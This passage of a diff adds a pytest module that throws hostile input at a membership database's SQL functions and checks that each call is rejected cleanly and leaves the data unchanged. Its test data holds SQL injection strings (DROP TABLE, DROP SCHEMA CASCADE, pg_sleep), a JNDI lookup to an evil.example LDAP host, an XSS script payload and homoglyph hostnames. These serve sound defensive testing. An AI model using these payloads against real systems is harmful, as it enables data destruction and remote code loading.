@@ -1,0 +1,1090 @@
+"""Hostile input against every SQL API function, called directly over a raw psycopg connection.
+
+One table, `CASES`: (function, argument, hostile value, what must happen). Every other argument
+of the call is a valid value (see `SIGNATURES`), so the hostile one is the only reason for what
+happens. What must happen is one of:
+
+- a SQLSTATE (SPEC.md section 3, or docs/errors.md where SPEC is silent): the call fails with
+  exactly that code, with a message that names the argument (or a HINT that says what to do)
+  and never echoes the value; the transaction is rolled back;
+- ``Noop(rows)``: an outcome, not an error (reads of unknown communities, an invalid invite
+  code, ``not_found``...): the call answers exactly ``rows``, prepare then has nothing to sign,
+  and the transaction commits;
+- ``CLIENT``: a NUL byte cannot travel inside a PostgreSQL text value at all; psycopg refuses
+  it with DataError before anything reaches the server.
+
+In every case the database is byte-for-byte what it was before: the row count and the md5 of
+the ordered content of every table in buzz_private, the identity sequences, the transaction
+scratch tables (empty), and the live list of every community.
+
+Strings shaped like SQL injection go into every text argument. Where the argument is free data
+(``p_added_by``/``p_created_by`` labels, ``p_policy_version``, ``p_note``) they are legitimate
+and must be stored verbatim: `test_stored_verbatim` commits them through the two-phase write
+and reads them back exactly. `test_insert_signed_events_hostile` covers the second phase:
+signatures of the wrong shape (BZSIG) and ids that are not the ones this transaction prepared
+last, including ids prepared by another transaction (BZSTL).
+
+The database is one per module (a copy of the migrated template): every case leaves it as it
+found it, or (stored-verbatim cases) changes it by exactly the expected rows.
+
+One check is left out:
+- 22P02: text that is not a uuid, passed where the API takes a uuid, is refused by PostgreSQL's
+  uuid input before the function runs; that message quotes the input. It is PostgreSQL's own
+  (SPEC and docs/errors.md are silent), so only the code is checked.
+"""
+
+from __future__ import annotations
+
+import collections
+import enum
+import os
+import secrets
+import sys
+import uuid
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from typing import Any
+
+import psycopg
+import pytest
+from psycopg import sql
+
+pytest.register_assert_rewrite("fixtures_membership")
+from fixtures_membership import expected_tags, new_pubkey
+
+from buzz_signer.keys import RelayKey
+from buzz_signer.membership import Membership
+from buzz_signer.nostr import verify_event
+from buzz_signer.signer import PreparedEvent, Signer
+
+# How many hostile inputs were tried, by what happened (printed by the last test).
+TRIED: collections.Counter[str] = collections.Counter()
+
+
+@enum.unique
+class S(enum.Enum):
+    """Valid values known only once the module's database exists (see World)."""
+
+    C = "live community"
+    C2 = "second live community"
+    Z = "archived community"
+    UNKNOWN = "random uuid of no community"
+    NEWPK = "pubkey that is nobody's"
+    MEMBER = "a member (role member) of C"
+    OWNER = "the owner of C"
+    RELAY = "the relay key"
+    OTHER_KEY = "a valid key that is not the relay key"
+    CODE = "an unlimited invite code of C"
+    INVITE = "the id of the invite CODE"
+    CODE_SPACED = "CODE with a trailing space"
+    CODE2 = "an invite code of C2"
+    INVITE2 = "the id of the invite CODE2"
+    NEWHOST = "a free host"
+    HOST = "the host of C"
+    KELVIN_HOST = "the host of C with its leading k as U+212A KELVIN SIGN"
+
+
+CLIENT = "client-side"
+
+
+@dataclass(frozen=True)
+class Noop:
+    rows: Any  # exactly what `SELECT * FROM buzz.f(...)` answers
+
+
+@dataclass(frozen=True)
+class Case:
+    func: str
+    arg: str  # the hostile argument ('p_pubkeys[2]' for an array element)
+    label: str
+    value: Any
+    expect: str | Noop  # SQLSTATE, CLIENT or Noop
+    echo_ok: bool = False  # the message may contain the value (PostgreSQL's own input errors)
+
+    @property
+    def id(self) -> str:
+        return f"{self.func}.{self.arg}:{self.label}"
+
+
+# name -> [(argument, SQL type, valid value)]: every function of SPEC section 3.
+SIGNATURES: dict[str, list[tuple[str, str, Any]]] = {
+    # Membership writes
+    "create_community": [("p_host", "text", S.NEWHOST), ("p_owner", "text", S.NEWPK)],
+    "add_relay_member": [
+        ("p_community", "uuid", S.C),
+        ("p_pubkey", "text", S.NEWPK),
+        ("p_role", "text", "member"),
+        ("p_added_by", "text", None),
+    ],
+    "add_relay_members": [
+        ("p_community", "uuid", S.C),
+        ("p_pubkeys", "text[]", [S.NEWPK]),
+        ("p_role", "text", "member"),
+        ("p_added_by", "text", None),
+    ],
+    "claim_relay_membership": [
+        ("p_community", "uuid", S.C),
+        ("p_pubkey", "text", S.NEWPK),
+        ("p_policy_version", "text", None),
+    ],
+    "create_relay_invite": [
+        ("p_community", "uuid", S.C),
+        ("p_created_by", "text", S.OWNER),
+        ("p_max_uses", "integer", 1),
+        ("p_ttl", "interval", "72 hours"),
+    ],
+    "claim_relay_invite": [
+        ("p_community", "uuid", S.C),
+        ("p_code", "text", S.CODE),
+        ("p_pubkey", "text", S.NEWPK),
+        ("p_policy_version", "text", None),
+    ],
+    "revoke_relay_invite": [("p_community", "uuid", S.C), ("p_invite_id", "uuid", S.INVITE)],
+    "remove_relay_member": [("p_community", "uuid", S.C), ("p_pubkey", "text", S.MEMBER)],
+    "remove_relay_member_if_role": [
+        ("p_community", "uuid", S.C),
+        ("p_pubkey", "text", S.MEMBER),
+        ("p_role", "text", "member"),
+    ],
+    "update_relay_member_role": [
+        ("p_community", "uuid", S.C),
+        ("p_pubkey", "text", S.MEMBER),
+        ("p_role", "text", "admin"),
+    ],
+    "bootstrap_owner": [("p_community", "uuid", S.C), ("p_pubkey", "text", S.NEWPK)],
+    "transfer_ownership": [
+        ("p_community", "uuid", S.C),
+        ("p_new_owner", "text", S.NEWPK),
+        ("p_expected_owner", "text", None),
+    ],
+    "allowlist_add": [
+        ("p_community", "uuid", S.C),
+        ("p_pubkey", "text", S.NEWPK),
+        ("p_note", "text", None),
+    ],
+    "backfill_from_allowlist": [("p_community", "uuid", S.C)],
+    "republish_member_list": [("p_community", "uuid", S.C)],
+    "archive_community": [("p_community", "uuid", S.C)],
+    "unarchive_community": [("p_community", "uuid", S.Z)],
+    "delete_community": [("p_community", "uuid", S.C)],
+    "rotate_relay_key": [("p_new_pubkey", "text", S.NEWPK), ("p_limit", "integer", None)],
+    # The two-phase list write
+    "prepare_membership_events": [("p_relay_pubkey", "text", S.RELAY)],
+    "insert_signed_events": [("p_ids", "text[]", []), ("p_sigs", "text[]", [])],
+    # Reads
+    "community_id": [("p_host", "text", S.HOST)],
+    "relay_members": [("p_community", "uuid", S.C)],
+    "member_list": [("p_community", "uuid", S.C)],
+    "membership_events": [("p_community", "uuid", S.C), ("p_since", "bigint", 0)],
+    "member_list_drift": [("p_community", "uuid", S.C)],
+}
+
+H = "0123456789abcdef" * 4  # 64 valid hex characters (used only inside malformed values)
+NUL = H[:32] + "\x00" + H[33:]
+HUGE = 100_000  # characters of a huge string (every statement is in the server log, in full)
+
+# Shaped like SQL injection (and friends). All printable and at most 64 characters: as data
+# (labels, policy versions, notes) they are legitimate and must be stored verbatim.
+INJECTIONS: list[tuple[str, str]] = [
+    ("drop-table", "'; DROP TABLE buzz_private.relay_members; --"),
+    ("or-1-1", "' OR '1'='1"),
+    ("dollar-quote", "$$; DELETE FROM buzz_private.relay_members; $$"),
+    ("tagged-dollar", "$q$ || pg_sleep(5) || $q$"),
+    ("E-string-x00", "E'\\x00'"),
+    ("backslash-u0000", "\\u0000"),
+    ("lone-backslash", "\\"),
+    ("backslash-quote", "\\'; SELECT 1; --"),
+    ("unicode-quotes", "\u2019 OR \u20181\u2019=\u20181"),
+    ("fullwidth-apostrophe", "\uff07; DROP SCHEMA buzz CASCADE; --"),
+    ("double-quote", '"; DROP SCHEMA buzz CASCADE; --'),
+    ("comment", "member /* */ --"),
+    ("call", "x'); SELECT buzz.delete_community(NULL); --"),
+    ("format-specifiers", "%s %(p)s {0} %n %x"),
+    ("copy-null-marker", "\\N"),
+    ("jndi", "${jndi:ldap://evil.example/a}"),
+    ("html", "<script>alert(1)</script>"),
+    ("bobby", "Robert'); DROP TABLE students;--"),
+    ("null-word", "NULL"),
+    ("json", '{"role":"owner"}'),
+    ("array-literal", "{owner,admin}"),
+]
+
+BAD_PUBKEYS: list[tuple[str, Any]] = [
+    ("NULL", None),
+    ("empty", ""),
+    ("63-hex", H[:63]),
+    ("65-hex", H + "a"),
+    ("128-hex", H + H),
+    ("non-hex", "g" * 64),
+    ("0x-prefix", "0x" + H[:62]),
+    ("leading-space", " " + H),
+    ("trailing-space", H + " "),
+    ("space-inside-64", H[:31] + " " + H[32:]),
+    ("trailing-newline", H + "\n"),
+    ("leading-tab", "\t" + H[1:]),
+    ("non-ascii", "\u00e9" * 64),
+    ("fullwidth-digits", "\uff10" * 64),
+    ("arabic-indic-digits", "\u0660" * 64),
+    ("fullwidth-hex", "\uff41" * 64),
+    ("npub", "npub1" + "q" * 58),
+    ("uuid", str(uuid.UUID(int=1))),
+    ("sql-64", ("' OR '1'='1' --" + H)[:64]),
+    ("huge-100k", "a" * HUGE),
+    *INJECTIONS,
+]
+
+BAD_ROLES: list[tuple[str, Any]] = [
+    ("NULL", None),
+    ("empty", ""),
+    ("capitalised", "Member"),
+    ("uppercase", "ADMIN"),
+    ("leading-space", " member"),
+    ("trailing-space", "member "),
+    ("trailing-newline", "member\n"),
+    ("unknown", "superuser"),
+    ("non-ascii", "m\u00e9mber"),
+    ("fullwidth", "\uff4d\uff45\uff4d\uff42\uff45\uff52"),
+    ("list", "admin,member"),
+    ("huge-100k", "m" * HUGE),
+    *INJECTIONS,
+]
+
+BAD_HOSTS: list[tuple[str, Any]] = [
+    ("NULL", None),
+    ("empty", ""),
+    ("space", " "),
+    ("scheme", "https://evil.example.net"),
+    ("ws-scheme", "wss://evil.example.net"),
+    ("path", "evil.example.net/path"),
+    ("trailing-slash", "evil.example.net/"),
+    ("trailing-dot", "evil.example.net."),
+    ("leading-dot", ".evil.example.net"),
+    ("empty-label", "evil..example.net"),
+    ("leading-hyphen", "-evil.example.net"),
+    ("trailing-hyphen", "relay-.example.org"),
+    ("port-0", "evil.example.net:0"),
+    ("port-65536", "evil.example.net:65536"),
+    ("port-leading-zero", "evil.example.net:080"),
+    ("port-empty", "evil.example.net:"),
+    ("port-negative", "evil.example.net:-1"),
+    ("two-ports", "evil.example.net:1:2"),
+    ("leading-space", " evil.example.net"),
+    ("trailing-space", "evil.example.net "),
+    ("inner-space", "evil example.net"),
+    ("trailing-newline", "evil.example.net\n"),
+    ("tab", "evil.example.net\t"),
+    ("underscore", "ev_il.example.net"),
+    ("wildcard", "*.example.org"),
+    ("userinfo", "user@evil.example.net"),
+    ("ipv6", "[::1]"),
+    ("bare-ipv6", "::1"),
+    ("non-ascii", "r\u00e9lay.example.net"),
+    ("kelvin", "\u212aelvin.example.org"),
+    ("label-64", "a" * 64 + ".org"),
+    ("name-255", ".".join(["a" * 63] * 4) + "aa"),
+    ("huge-100k", "a" * HUGE),
+    ("huge-dots", "a." * 50_000 + "a!"),
+    *[(label, v) for label, v in INJECTIONS if v != "NULL"],  # NULL is a fine one-label host
+]
+
+BAD_LABELS: list[tuple[str, Any]] = [  # p_added_by / p_created_by / p_policy_version: 22023
+    ("empty", ""),
+    ("65-chars", "x" * 65),
+    ("newline", "a\nb"),
+    ("tab", "\t"),
+    ("escape", "\x1b[31m"),
+    ("del", "label\x7f"),
+    ("huge-100k", "x" * HUGE),
+]
+
+# Legitimate data: stored verbatim (tests the round trip, not a rejection).
+GOOD_LABELS: list[tuple[str, str]] = [
+    *INJECTIONS,
+    ("64-chars", "l" * 64),
+    ("64-emoji", "\U0001f642" * 64),
+    ("spaces-around", " invite "),
+    ("backslashes", "C:\\path\\to\\"),
+    ("unicode", "Zo\u00eb \u00fcber \u2603"),
+]
+
+
+def _cases() -> list[Case]:
+    cases: list[Case] = []
+
+    def add(func: str, arg: str, values: list[tuple[str, Any]], expect: str | Noop) -> None:
+        for label, value in values:
+            cases.append(Case(func, arg, label, value, expect))
+
+    def nul(func: str, arg: str, value: Any = NUL) -> None:
+        cases.append(Case(func, arg, "NUL-byte", value, CLIENT))
+
+    # Pubkeys: BZIPK everywhere; a NUL byte never leaves the client.
+    pubkey_args = [
+        (f, a)
+        for f, sig in SIGNATURES.items()
+        for a, t, v in sig
+        if t == "text"
+        and a
+        in {
+            "p_owner",
+            "p_pubkey",
+            "p_new_owner",
+            "p_expected_owner",
+            "p_new_pubkey",
+            "p_relay_pubkey",
+        }
+    ]
+    for f, a in pubkey_args:
+        values = BAD_PUBKEYS
+        if a == "p_expected_owner":  # NULL means "any owner"
+            values = [(lbl, v) for lbl, v in BAD_PUBKEYS if v is not None]
+        add(f, a, values, "BZIPK")
+        nul(f, a)
+    # A malformed element of p_pubkeys, at position 2 (the message names p_pubkeys[2]).
+    for label, value in BAD_PUBKEYS:
+        cases.append(Case("add_relay_members", "p_pubkeys[2]", label, [S.NEWPK, value], "BZIPK"))
+    nul("add_relay_members", "p_pubkeys[2]", [S.NEWPK, NUL])
+    cases += [
+        Case("add_relay_members", "p_pubkeys", "NULL-array", None, "BZIPK"),
+        Case("add_relay_members", "p_pubkeys", "2-D-array", [[S.NEWPK], [S.NEWPK]], "BZIPK"),
+        # Subscripts need not start at 1: the message names the element by its subscript.
+        Case("add_relay_members", "p_pubkeys[6]", "lower-bound-5", f"[5:6]={{{H},zz}}", "BZIPK"),
+        Case("add_relay_members", "p_pubkeys", "huge-100001", [H] * 100_001, "54000"),
+        Case("add_relay_members", "p_pubkeys", "huge-100001-malformed", ["zz"] * 100_001, "54000"),
+        Case("add_relay_members", "p_pubkeys", "empty-array", [], Noop([(0,)])),
+    ]
+    # A valid key that is not the recorded relay key.
+    cases.append(
+        Case("prepare_membership_events", "p_relay_pubkey", "other-key", S.OTHER_KEY, "BZKEY")
+    )
+
+    # Roles.
+    for f in ("add_relay_member", "add_relay_members", "update_relay_member_role"):
+        add(f, "p_role", [*BAD_ROLES, ("owner", "owner")], "BZIRL")
+        nul(f, "p_role", "member\x00")
+    add("remove_relay_member_if_role", "p_role", BAD_ROLES, "BZIRL")
+    nul("remove_relay_member_if_role", "p_role", "member\x00")
+
+    # Hosts: malformed for create_community; simply no community for the read.
+    add("create_community", "p_host", BAD_HOSTS, "BZHST")
+    nul("create_community", "p_host", "evil.example.net\x00")
+    add(
+        "community_id", "p_host", [*BAD_HOSTS, ("kelvin-lookalike", S.KELVIN_HOST)], Noop([(None,)])
+    )
+    nul("community_id", "p_host", "evil.example.net\x00")
+
+    # Communities: NULL and unknown ids, archived communities, text that is no uuid.
+    writes = [
+        "add_relay_member",
+        "add_relay_members",
+        "claim_relay_membership",
+        "create_relay_invite",
+        "claim_relay_invite",
+        "remove_relay_member",
+        "remove_relay_member_if_role",
+        "update_relay_member_role",
+        "bootstrap_owner",
+        "transfer_ownership",
+        "allowlist_add",
+        "backfill_from_allowlist",
+    ]
+    missing = [("NULL", None), ("unknown", S.UNKNOWN), ("nil-uuid", str(uuid.UUID(int=0)))]
+    not_uuid = [("not-a-uuid", "c0ffee"), INJECTIONS[0], ("empty", "")]
+    for f in writes:
+        add(f, "p_community", missing, "BZNCM")
+        add(f, "p_community", [("archived", S.Z)], "BZARC")
+    for f in (
+        "republish_member_list",
+        "revoke_relay_invite",
+        "archive_community",
+        "unarchive_community",
+    ):
+        add(f, "p_community", missing, "BZNCM")
+    add("archive_community", "p_community", [("archived", S.Z)], Noop([("unchanged",)]))
+    add("unarchive_community", "p_community", [("live", S.C)], Noop([("unchanged",)]))
+    add(
+        "revoke_relay_invite",
+        "p_community",
+        [("archived-other-invite", S.Z)],
+        Noop([("not_found",)]),
+    )
+    add("delete_community", "p_community", missing, Noop([("not_found",)]))
+    add("relay_members", "p_community", missing, Noop([]))
+    add("member_list", "p_community", missing, Noop([(None,)]))
+    add("membership_events", "p_community", missing, Noop([]))
+    add("member_list_drift", "p_community", missing[1:], Noop([]))
+    add("member_list_drift", "p_community", missing[:1], Noop([]))  # NULL: all, and all agree
+    for f, sig in SIGNATURES.items():
+        for a, t, _ in sig:
+            if t == "uuid":
+                for label, value in not_uuid:
+                    # PostgreSQL's own input error, raised before the function runs; its
+                    # message quotes the input (see the module docstring).
+                    cases.append(Case(f, a, label, value, "22P02", echo_ok=True))
+
+    # Labels, policy versions, notes: too long or with control characters.
+    add("add_relay_member", "p_added_by", BAD_LABELS, "22023")
+    add("add_relay_members", "p_added_by", BAD_LABELS, "22023")
+    add("create_relay_invite", "p_created_by", [("NULL", None), *BAD_LABELS], "22023")
+    add("claim_relay_membership", "p_policy_version", BAD_LABELS, "22023")
+    add("claim_relay_invite", "p_policy_version", BAD_LABELS, "22023")
+    add("allowlist_add", "p_note", [("1001-chars", "n" * 1001), ("huge-100k", "n" * HUGE)], "22023")
+    for f, a in [
+        ("add_relay_member", "p_added_by"),
+        ("add_relay_members", "p_added_by"),
+        ("create_relay_invite", "p_created_by"),
+        ("claim_relay_membership", "p_policy_version"),
+        ("claim_relay_invite", "p_policy_version"),
+        ("allowlist_add", "p_note"),
+    ]:
+        nul(f, a, "label\x00")
+
+    # Invite codes: any text that is not a code of this community is just 'invalid'.
+    invalid = Noop([("invalid", None, None)])
+    add(
+        "claim_relay_invite",
+        "p_code",
+        [
+            ("NULL", None),
+            ("empty", ""),
+            ("other-community", S.CODE2),
+            ("trailing-space", S.CODE_SPACED),
+            ("like-wildcard", "%"),
+            ("underscore", "_" * 32),
+            ("star", "*"),
+            ("hex-32", H[:32]),
+            ("non-ascii", "\u00e9" * 32),
+            ("huge-100k", "c" * HUGE),
+            *INJECTIONS,
+        ],
+        invalid,
+    )
+    nul("claim_relay_invite", "p_code")
+    add(
+        "revoke_relay_invite",
+        "p_invite_id",
+        [("NULL", None), ("unknown", S.UNKNOWN)],
+        Noop([("not_found",)]),
+    )
+    add(
+        "revoke_relay_invite",
+        "p_invite_id",
+        [("other-community", S.INVITE2)],
+        Noop([("not_found",)]),
+    )
+
+    # Invite ranges.
+    add(
+        "create_relay_invite",
+        "p_max_uses",
+        [("0", 0), ("-1", -1), ("10001", 10_001), ("int-max", 2**31 - 1), ("int-min", -(2**31))],
+        "BZINV",
+    )
+    add(
+        "create_relay_invite",
+        "p_ttl",
+        [
+            ("NULL", None),
+            ("59-seconds", "59 seconds"),
+            ("zero", "0"),
+            ("negative", "-1 hour"),
+            ("30-days-1-second", "30 days 1 second"),
+            ("31-days", "31 days"),
+            ("1-month-1-day", "1 mon 1 day"),
+            ("1000-years", "1000 years"),
+        ],
+        "BZINV",
+    )
+    add("rotate_relay_key", "p_limit", [("0", 0), ("-1", -1), ("int-min", -(2**31))], "22023")
+
+    # insert_signed_events with nothing prepared (with something prepared: see below).
+    add(
+        "insert_signed_events",
+        "p_ids",
+        [
+            ("NULL", None),
+            ("one-id", [H]),
+            ("huge-100001", [""] * 100_001),
+            ("2-D", [[H], [H]]),
+            *[(label, [v]) for label, v in INJECTIONS],
+        ],
+        "BZSTL",
+    )
+    add(
+        "insert_signed_events",
+        "p_sigs",
+        [("NULL", None), ("one-sig", [H + H]), ("huge-100001", [""] * 100_001)],
+        "BZSTL",
+    )
+    add("insert_signed_events", "p_ids", [("empty-arrays", [])], Noop([]))
+    nul("insert_signed_events", "p_ids", [NUL])
+    return cases
+
+
+CASES = _cases()
+
+
+# The module's database and the valid values its cases use.
+
+
+@dataclass
+class World:
+    url: str
+    key: RelayKey
+    signer: Signer
+    values: dict[S, Any]
+    committed_ids: list[str]  # the events of a committed transaction, in its order
+    committed_sigs: list[str]
+
+
+@pytest.fixture(scope="module")
+def hostile_db(admin_url: str, template_db: str) -> Iterator[str]:
+    """Like conftest's db_url, once for the module (a database per case would be slow)."""
+    from buzz_signer.localdb import url_with_dbname
+
+    name = f"buzz_hostile_{os.getpid()}_{secrets.token_hex(3)}"
+    with psycopg.connect(admin_url, autocommit=True) as c:
+        c.execute(
+            sql.SQL("CREATE DATABASE {} TEMPLATE {}").format(
+                sql.Identifier(name), sql.Identifier(template_db)
+            )
+        )
+    try:
+        yield url_with_dbname(admin_url, name)
+    finally:
+        # conftest's own _drop when there is one, so that whatever the run hooks there (a scan
+        # of each database before it goes) sees this database too.
+        drop = getattr(sys.modules.get("conftest"), "_drop", None)
+        if drop is not None:
+            drop(admin_url, name)
+        else:
+            with psycopg.connect(admin_url, autocommit=True) as c:
+                c.execute(
+                    sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(sql.Identifier(name))
+                )
+
+
+@pytest.fixture(scope="module")
+def world(hostile_db: str) -> Iterator[World]:
+    key = RelayKey.generate()
+    with Membership.connect(hostile_db, key) as m:
+        owner, member, admin = new_pubkey(), new_pubkey(), new_pubkey()
+        host = f"k{secrets.token_hex(4)}.hostile.example.org"
+        c = m.create_community(host, owner).details["community_id"]
+        m.add_relay_member(c, member)
+        m.add_relay_member(c, admin, "admin")
+        m.allowlist_add(c, new_pubkey(), "seed")
+        invite = m.create_relay_invite(c, owner, max_uses=None)
+        c2 = m.create_community(f"c2-{secrets.token_hex(4)}.hostile.example.org", owner)
+        c2 = c2.details["community_id"]
+        invite2 = m.create_relay_invite(c2, owner)
+        committed = m.add_relay_member(c2, new_pubkey())
+        z = m.create_community(f"z-{secrets.token_hex(4)}.hostile.example.org", new_pubkey())
+        z = z.details["community_id"]
+        m.add_relay_member(z, new_pubkey())
+        assert m.archive_community(z) == "archived"
+    values = {
+        S.C: c,
+        S.C2: c2,
+        S.Z: z,
+        S.UNKNOWN: uuid.uuid4(),
+        S.MEMBER: member,
+        S.OWNER: owner,
+        S.RELAY: key.pubkey,
+        S.OTHER_KEY: RelayKey.generate().pubkey,
+        S.CODE: invite.code,
+        S.CODE_SPACED: invite.code + " ",
+        S.INVITE: invite.invite_id,
+        S.CODE2: invite2.code,
+        S.INVITE2: invite2.invite_id,
+        S.HOST: host,
+        S.KELVIN_HOST: "\u212a" + host[1:],
+    }
+    yield World(
+        hostile_db,
+        key,
+        Signer(key),
+        values,
+        [e["id"] for e in committed.events],
+        [e["sig"] for e in committed.events],
+    )
+
+
+@pytest.fixture(scope="module")
+def su(world: World) -> Iterator[psycopg.Connection]:
+    """Superuser, autocommit: sees exactly what is committed."""
+    with psycopg.connect(world.url, autocommit=True) as c:
+        yield c
+
+
+@pytest.fixture(scope="module")
+def hc(world: World) -> Iterator[psycopg.Connection]:
+    """The connection the hostile calls run on: autocommit off, one transaction per case."""
+    with psycopg.connect(world.url, autocommit=False) as c:
+        yield c
+
+
+@pytest.fixture
+def conn_rolled_back(hc: psycopg.Connection) -> Iterator[psycopg.Connection]:
+    hc.rollback()
+    yield hc
+    hc.rollback()
+
+
+def resolve(value: Any, w: World) -> Any:
+    if isinstance(value, S):
+        return new_pubkey() if value is S.NEWPK else _resolve_fixed(value, w)
+    if isinstance(value, list):
+        return [resolve(v, w) for v in value]
+    return value
+
+
+def _resolve_fixed(value: S, w: World) -> Any:
+    if value is S.NEWHOST:
+        return f"new-{secrets.token_hex(4)}.hostile.example.org"
+    return w.values[value]
+
+
+def call(cur: psycopg.Cursor, func: str, args: list[tuple[str, str, Any]]) -> list[tuple]:
+    query = sql.SQL("SELECT * FROM buzz.{}({})").format(
+        sql.Identifier(func),
+        sql.SQL(", ").join(
+            sql.SQL("{} => %s::{}").format(sql.Identifier(name), sql.SQL(sqltype))
+            for name, sqltype, _ in args
+        ),
+    )
+    return cur.execute(query, [v for _, _, v in args]).fetchall()
+
+
+def args_for(case: Case, w: World) -> list[tuple[str, str, Any]]:
+    base = case.arg.split("[")[0]
+    out = []
+    for name, sqltype, valid in SIGNATURES[case.func]:
+        value = case.value if name == base else valid
+        out.append((name, sqltype, resolve(value, w)))
+    return out
+
+
+# Snapshots: everything the database holds, as committed.
+
+
+def _tables(su: psycopg.Connection) -> tuple[list[str], list[str], list[str]]:
+    rows = su.execute(
+        "SELECT c.relname, c.relkind, c.relpersistence FROM pg_catalog.pg_class c"
+        " WHERE c.relnamespace = 'buzz_private'::regnamespace AND c.relkind IN ('r', 'S')"
+        " ORDER BY c.relname"
+    ).fetchall()
+    logged = [r[0] for r in rows if r[1] == "r" and r[2] == "p"]
+    scratch = [r[0] for r in rows if r[1] == "r" and r[2] == "u"]
+    sequences = [r[0] for r in rows if r[1] == "S"]
+    return logged, scratch, sequences
+
+
+def snapshot(su: psycopg.Connection) -> dict[str, Any]:
+    logged, scratch, sequences = _tables(su)
+    assert {"relay_members", "member_lists", "communities"} <= set(logged)
+    assert all(t.startswith("tx_") for t in scratch), scratch
+    parts = [
+        sql.SQL(
+            "SELECT {name}, pg_catalog.count(*),"
+            " pg_catalog.md5(coalesce(pg_catalog.string_agg(t::text, '|' ORDER BY t::text), ''))"
+            " FROM buzz_private.{table} t"
+        ).format(name=sql.Literal(t), table=sql.Identifier(t))
+        for t in logged + scratch
+    ]
+    tables = {r[0]: (r[1], r[2]) for r in su.execute(sql.SQL(" UNION ALL ").join(parts))}
+    for t in scratch:  # outside a transaction, the scratch tables are empty
+        assert tables[t][0] == 0, t
+    seqs = [
+        sql.SQL("SELECT {name}, s.last_value, s.is_called FROM buzz_private.{seq} s").format(
+            name=sql.Literal(s), seq=sql.Identifier(s)
+        )
+        for s in sequences
+    ]
+    lists = su.execute(
+        "SELECT c.community_id, buzz.member_list(c.community_id)::text"
+        " FROM buzz_private.communities c ORDER BY c.community_id"
+    ).fetchall()
+    return {
+        "tables": tables,
+        "sequences": su.execute(sql.SQL(" UNION ALL ").join(seqs)).fetchall() if seqs else [],
+        "lists": lists,
+    }
+
+
+def counts(snap: dict[str, Any]) -> dict[str, int]:
+    return {t: v[0] for t, v in snap["tables"].items()}
+
+
+# What an error must look like.
+
+ARGUMENT_ERRORS = {"BZIPK", "BZIRL", "BZHST", "BZINV", "22023", "54000"}
+
+
+def check_error(exc: psycopg.Error, case: Case, sent: Any) -> None:
+    diag = exc.diag
+    msg = diag.message_primary or ""
+    assert exc.sqlstate == case.expect, (exc.sqlstate, msg)
+    assert len(msg.split()) >= 3, msg  # a sentence, not a bare word
+    if case.expect in ARGUMENT_ERRORS:
+        # It names the argument (an array element by its subscript).
+        assert case.arg in msg, msg
+    elif case.expect in {"BZNCM", "BZARC", "BZSTL", "BZKEY"}:
+        assert diag.message_hint, msg  # the message says what; the hint says what to do
+    types = {name: sqltype for name, sqltype, _ in SIGNATURES[case.func]}
+    # A community or invite id is no secret (BZNCM names the id it did not find).
+    if not case.echo_ok and types[case.arg.split("[")[0]] != "uuid":
+        text = " ".join(filter(None, [msg, diag.message_detail, diag.message_hint, diag.context]))
+        for v in sent if isinstance(sent, list) else [sent]:
+            if isinstance(v, str) and len(v) >= 8:
+                assert v not in text, f"the message echoes the value: {text[:300]}"
+
+
+def publish(conn: psycopg.Connection, signer: Signer) -> list[Any]:
+    """Phase two as buzz_signer does it: prepare, check and sign, insert. The signed events."""
+    rows = conn.execute(
+        "SELECT community_id, id, kind, created_at, serialized"
+        " FROM buzz.prepare_membership_events(%s)",
+        (signer.pubkey,),
+    ).fetchall()
+    prepared = [PreparedEvent(str(r[0]), r[1], r[2], r[3], r[4]) for r in rows]
+    sigs = signer.sign_all(prepared)
+    return [
+        r[0]
+        for r in conn.execute(
+            "SELECT * FROM buzz.insert_signed_events(%s::text[], %s::text[])",
+            ([p.id for p in prepared], sigs),
+        )
+    ]
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
+def test_hostile_input(case: Case, world: World, su, conn_rolled_back) -> None:
+    conn = conn_rolled_back
+    before = snapshot(su)
+    args = args_for(case, world)
+    sent = {n: v for n, _, v in args}[case.arg.split("[")[0]]
+    if case.expect == CLIENT:
+        with pytest.raises(psycopg.DataError, match="NUL") as info:
+            call(conn.cursor(), case.func, args)
+        assert info.value.sqlstate is None  # raised by psycopg; the server saw nothing
+        conn.rollback()
+        TRIED["refused client-side (NUL byte)"] += 1
+    elif isinstance(case.expect, Noop):
+        assert call(conn.cursor(), case.func, args) == case.expect.rows
+        assert publish(conn, world.signer) == []  # nothing to sign: nothing changed
+        conn.commit()
+        TRIED["answered an outcome, nothing changed"] += 1
+    else:
+        with pytest.raises(psycopg.Error) as info:
+            call(conn.cursor(), case.func, args)
+        conn.rollback()
+        check_error(info.value, case, sent)
+        TRIED[f"rejected ({case.expect})"] += 1
+    assert snapshot(su) == before
+
+
+# Stored verbatim: labels, policy versions and notes are data.
+
+STORED_ARGS = {
+    "add_relay_member.p_added_by": "SELECT added_by FROM buzz_private.relay_members"
+    " WHERE community_id = %(c)s AND pubkey = %(pk)s",
+    "add_relay_members.p_added_by": "SELECT added_by FROM buzz_private.relay_members"
+    " WHERE community_id = %(c)s AND pubkey = ANY(%(pks)s) GROUP BY added_by",
+    "create_relay_invite.p_created_by": "SELECT created_by FROM buzz_private.relay_invites"
+    " WHERE invite_id = %(invite)s",
+    "claim_relay_membership.p_policy_version": "SELECT policy_version"
+    " FROM buzz_private.policy_acceptances WHERE community_id = %(c)s AND pubkey = %(pk)s",
+    "claim_relay_invite.p_policy_version": "SELECT policy_version"
+    " FROM buzz_private.policy_acceptances WHERE community_id = %(c)s AND pubkey = %(pk)s",
+    "allowlist_add.p_note": "SELECT note FROM buzz_private.relay_allowlist"
+    " WHERE community_id = %(c)s AND pubkey = %(pk)s",
+}
+NOTES_TOO = [("newline-tab", "line one\nline\ttwo"), ("escape", "\x1b[31m"), ("1000", "n" * 1000)]
+STORED = [
+    (target, label, value)
+    for target in STORED_ARGS
+    for label, value in GOOD_LABELS + (NOTES_TOO if target.endswith("p_note") else [])
+]
+# A pubkey given as the actor is a pubkey: stored lowercased, not verbatim.
+STORED += [("add_relay_member.p_added_by", "uppercase-pubkey", H.upper())]
+
+# (rows added per table) by target; every other table keeps its row count.
+STORED_DELTAS = {
+    "add_relay_member.p_added_by": {"relay_members": 1, "membership_events": 1},
+    "add_relay_members.p_added_by": {"relay_members": 2, "membership_events": 2},
+    "create_relay_invite.p_created_by": {"relay_invites": 1},
+    "claim_relay_membership.p_policy_version": {
+        "relay_members": 1,
+        "membership_events": 1,
+        "policy_acceptances": 1,
+    },
